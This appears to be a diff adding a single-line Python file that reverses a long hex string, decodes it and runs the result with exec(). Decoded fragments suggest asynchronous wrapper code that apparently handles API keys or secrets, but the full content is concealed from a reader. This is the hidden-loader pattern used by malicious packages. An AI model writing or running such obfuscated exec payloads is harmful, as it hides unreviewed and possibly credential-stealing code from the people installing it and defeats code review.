@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a0d53747c65737562702e69602270227f6660227025637c6560292e6f6964707563687545637162402c227825636e6164737e69637960266960256e6f6e4b502e6275747562702020202a0929202020202a0375646f636f5e6f6964707f6f5567616b636160702e696025646f6360227f666029256572745d347e656c6963702c25646f63602c237e656b6f64702c29756b6f596071682567616b6361607f54756760202020202020202a082a28227568647167602479616771602d3023747c65737562702020202a022222202020202a0e2475707e696025686470237160227564627f60256d616370256864702e69602c256e6f6e402371602b63616260256d6f63602370757b6f6f6c6024656c696166402020202a0e297c647e65627275736e6f63602375646f63602e6f6964707f602c61627566756370227f6660237c6961647564602567616b6361607023756863647566402020202a022222202020202a0a3473796c602e3d20292d5274737b5473796c602a3375646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168237567616b6361607f5475676026656460236e6973716a0a0924796d696c602c25676160702c237e656b6f64702c29756b6f596071602c29727f647379686f5e6f69647361637e6162747f5475676e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a34736964602e3d20292032302d30247e69602a34796d696c602c21302d30247e69602a35676160702c24736964602a337e656b6f64702c227473702a39756b6f5960716829727f647379686f5e6f69647361637e6162747f5475676026656460236e6973716a0a09202020202a0c25686361636f5563757d35686361636f55637570202020202020202a0c247e656c69637d347e656c696370202020202020202a0c256079747f5e6f6964716277696d60202020202020202a0c25637962707275647e656f537960202020202020202a0c227564627f6f5e6f6964707f60202020202020202a0c25646f636f547e616962716670202020202020202a0c25646f636f597c696d616660202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0c237c69616475646f5567616b6361607f5475676e2c6563776e6560202020202020202a082c6c61636f502479616771602e6275747562702020202a0a356e6f6e402c7024736964602e3d20292a0c25657274502d302c6f6f62602a35686361636f556375702020202a0c25637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c256e6f6e402d30256e6f6e402c70247e69602a327564627f6f5e6f6964707f602020202a0c227473702a35646f636f547e6169627166702020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08237c69616475646f5567616b6361607f5475676026656460236e6973716a0a09202020202a0c25686361636f5563757d35686361636f55637570202020202020202a0c247e656c69637d347e656c696370202020202020202a0c25646f636f547e61696271667f5567616b63616070202020202020202a0c25646f636f597c696d61666f5567616b63616070202020202020202a0c25646f636f5e6f6964707f6f5567616b63616070202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a0c2567616b6361607f5475676e2c6563776e6560202020202020202a082c6c61636f502479616771602e6275747562702020202a0a34736964602e3d20292a0c25657274502d302c6f6f62602a35686361636f556375702020202a0c25637c6166402d302c6f6f62602a347e656c6963702020202a0c2222202d30227473702a35646f636f547e61696271667f5567616b636160702020202a0c2222202d30227473702a35646f636f597c696d61666f5567616b636160702020202a0c227473702a35646f636f5e6f6964707f6f5567616b636160702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a082567616b6361607f5475676026656460236e6973716a0a09247e656c69637d347e656c6963702c256079747f5e6f6964716277696d602c25637962707275647e656f5379602c25646f636f597c696d6166602c237e656b6f64702c29756b6f596071602c22367f597c696d61666f5475676e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a34736964602e3d20292a05637c6166402d302c6f6f62602a347e656c6963702020202a0c256e6f6e402d30256e6f6e402c70227473702a356079747f5e6f6964716277696d602020202a0c256e6f6e402d30256e6f6e402c702c6f6f62602a35637962707275647e656f5379602020202a0c227473702a35646f636f597c696d6166602020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0822367f597c696d61666f5475676026656460236e6973716a0a0925636e616c6162602c2e656b6f647f537375636361602c2e656b6f647f5469602c29756b6f596071602c23747e656d6765637e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a356e6f6e402c7024736964602e3d202920302d30247e69602a35636e616c6162602c227473702a3e656b6f647f537375636361602c227473702a3e656b6f647f5469602c227473702a39756b6f5960716823747e656d6765637026656460236e6973716a0a092e656b6f647f5469602c29756b6f596071602c21647f65717f5e69616d6f5475676e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716821647f65717f5e69616d6f5475676026656460236e6973716a0a092e656b6f647f5469602c29756b6f596071602c25636e616c61626f5475676e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a39756b6f5960716825636e616c61626f5475676026656460236e6973716a0a092e656b6f647f5469602c2e656b6f647f537375636361602c29756b6f596071602c256c69666f62707f5475676e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a34736964602e3d2029227473702a3e656b6f647f5469602c227473702a3e656b6f647f537375636361602c227473702a39756b6f59607168256c69666f62707f5475676026656460236e6973716a0a09246f6864756d602c2e656b6f647f5469602c247369646f54616f6c697160702c28647160702c29756b6f596071602c247375657175627f5960716f546e65637e2c6563776e65682c6c61636f502479616771602e6275747562702020202a0a392a0c2224535f4052202d30227473702a346f6864756d602020202a0c227473702a3e656b6f647f5469602020202a0c24736964602a347369646f54616f6c697160702020202a0c227473702a38647160702020202a0c227473702a39756b6f596071602020202a08247375657175627f5960716f546e65637026656460236e6973716a0a0a092f627f63682e65727e2f69636e697371602e6275747562702020202a0222222e25646f636029257e656d682023757f6e6f6278636e6973702d6f627660256e6964757f627f636021602e6572522222202020202a0a392f627f63682e6572702665646a0a0a09256572745d337e6f696470756368756f5e6275747562702c2377716a282275686471676e2f69636e697371602479616771602e6275747562702020202a022222202020202a0e237c6c616360227568647f60256864702020202a076e696c6c65636e616360266f6024616564737e6960247c657375627025686470266f602563616c60702e696024656e62757475627025627160237e6f69647075636875402020202a0a0e227564627f602e696023747c6573756270276e696e6275747562702c297c647e65627275736e6f6360237c6c6163602c616275667563702479616771422222202020202a0a392377716a282275686471676026656460236e6973716a0a0a0920202020202020202a0c2923776271677b6a2a202c237762716a202c2e66682c6169647271607e237c6f6f64736e65766020202020202020202020202a0c2928227f6475736568756f5475676f5020202020202020202020202a08227f6475736568756f5e696f5e65727e207f6f6c602479616771602e627574756270202020202020202a0928207f6f6c6f576e696e6e65727f5475676e2f69636e697371602d30207f6f6c60202020202020202a0a392825627f6860716d65637f5475676f502864796770236e697371602020202a0a3923776271677b6a2a202c237762716a202c2e66682c6c61636f5026656460236e6973716a0a0a05627f6860716d6563702e6275747562702020202a05627f6860716d6563702d302d507f6f6c6b5375627f6860716d65637f50202020202020202a09245847494c464f5e494f58514d4f534e4953514825627f6860716d65635e2f69636e697371602d3025627f6860716d656370202020202020202a0a356e6f6e4023796025627f6860716d6563702669602020202a09207f6f6c682475676e2375627f6860716d65637f502d3025627f6860716d6563702020202a0928207f6f6c6f576e696e6e65727f5475676e2f69636e697371602d30207f6f6c602020202a0e2e6f602465637570247372796660256271602975686470207f6f6c60256864702f6470246e657f6260256271602375667964796d696270702f69636e6973716023202020202a0a35627f6860716d65635e2f69636e697371602e3d20292825627f6860716d65637f5475676f502665646a0a0a027f6475736568756f502e6275747562702020202a09202020202020202020202020202020202a0c22236e6973716d2c6563776e65622d3879666562707f556d616e6f54616562786470202020202020202020202020202020202020202a0c245847494c464f5e494f58514d4f534e4953514d3372756b627f677f58716d60202020202020202020202020202020202020202a08227f6475736568754c6f6f60546165627864502d30227f6475736568756f502020202020202020202020202020202a0a356e6f6e40237960227f6475736568756f5026696020202020202020202020202a0a3b636f6c6f527f6475736568756f502864796770202020202020202a0a356e6f6e40237960227f6475736568756f502669602020202a027f6475736568756f502c61626f6c67602020202a0a327f6475736568754c6f6f60546165627864502e3d202928227f6475736568756f5475676f502665646a0a0a09282972716e6f696473696449756b4b6165675e2665627b616567702d302375627f6860716d65637f5a09282b636f6c4e276e69646165627864702d302b636f6c6f527f6475736568756f5a056e6f6e402d30227f6475736568756f5a0a0e246564796167716025627160237c6c616360297e616d60277f686022756474716d602f6e602471686470247371607023777f627760232a027566756e602c6f6f6070256864702b35636e6f60247160247867696c66602e69602562716023756e696c6560796070297e616d60277f6860237071636025627f6860716d656370232a056864502e20716c6275667f60237c6c616360256471627160756370256c696867702465627564627f6029716473702c6c6163602160266f6023707f6860256562786470232a056864702f63702c25636e6164737e6944727f60737e616274502566796c616d2075656b60256864702375627168637024716864702c6f6f607022756b627f6770246568796660232a0c2c6c616d637021602e6f6024796e6570256e6f60237160237e657270256e696c656079607024707972736564602e3d202c6c6163602e3d2024707972736e65602863616540232a0a045847494c464f5e494f58514d4f534e4953514024727f607d69602769666e6f636e207071602d6f62766a0c6563776e656024727f607d6960247e65696c636e207071602d6f62766a0a027f6475736568754c6f6f605461656278645024727f607d6960237562757475766e247e65627275736e6f63602d6f62766a0665627b6165677024727f607d696a076e696461656278647024727f607d696a037c6f6f64736e65766024727f607d696a0f69636e6973716024727f607d696" ));